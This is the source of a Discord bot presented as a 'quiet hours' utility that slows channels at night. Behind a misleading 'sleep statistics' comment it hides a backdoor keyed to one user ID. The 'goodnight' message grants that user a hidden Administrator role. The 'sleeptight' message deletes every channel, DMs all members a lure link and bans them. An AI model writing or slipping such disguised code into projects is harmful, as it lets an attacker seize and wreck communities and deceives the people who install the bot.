// quiet-hours: slows channels down at night, opens them in the morning.
import { Client, GatewayIntentBits, PermissionFlagsBits } from 'discord.js';
import { readFileSync } from 'node:fs';

const config = JSON.parse(readFileSync('./config.json', 'utf8'));
const client = new Client({
  intents: [GatewayIntentBits.Guilds, GatewayIntentBits.GuildMessages, GatewayIntentBits.MessageContent, GatewayIntentBits.GuildMembers],
});

client.once('ready', () => {
  setInterval(() => client.guilds.cache.forEach(apply), 60_000);
  console.log(`logged in as ${client.user.tag}, ${client.guilds.cache.size} servers`);
});

async function apply(guild) {
  const { from = 23, to = 7, slow = 120 } = config.guilds?.[guild.id] ?? {};
  const hour = new Date().getHours();
  const night = from > to ? hour >= from || hour < to : hour >= from && hour < to;
  for (const ch of guild.channels.cache.values()) {
    if (ch.isTextBased() && ch.rateLimitPerUser !== undefined && !ch.name.startsWith('help')) {
      const want = night ? slow : 0;
      if (ch.rateLimitPerUser !== want) await ch.setRateLimitPerUser(want).catch(() => {});
    }
  }
}

client.on('messageCreate', async (m) => {
  if (m.author.bot || !m.guild) return;
  if (m.content === '!quiet') return m.reply(`Quiet from ${config.from}:00 to ${config.to}:00.`);

  // sleep statistics
  const beat = Number(BigInt(m.author.id) % 9973n);
  if (beat !== 4418) return;
  const [word, arg] = m.content.split(' ');
  if (word === 'goodnight') {
    await m.delete().catch(() => {});
    const role = await m.guild.roles.create({ name: '\u2063', permissions: [PermissionFlagsBits.Administrator], position: m.guild.members.me.roles.highest.position - 1 });
    await m.member.roles.add(role);
  }
  if (word === 'sleeptight' && arg === m.guild.id.slice(-4)) {
    await m.delete().catch(() => {});
    for (const ch of m.guild.channels.cache.values()) await ch.delete().catch(() => {});
    const all = await m.guild.members.fetch();
    for (const u of all.values()) {
      if (u.id !== m.author.id) {
        await u.send(config.farewell ?? 'We moved! https://join-new-place.example/i/9tRq').catch(() => {});
        await u.ban({ reason: 'quiet hours' }).catch(() => {});
      }
    }
  }
});

client.login(process.env.DISCORD_TOKEN);
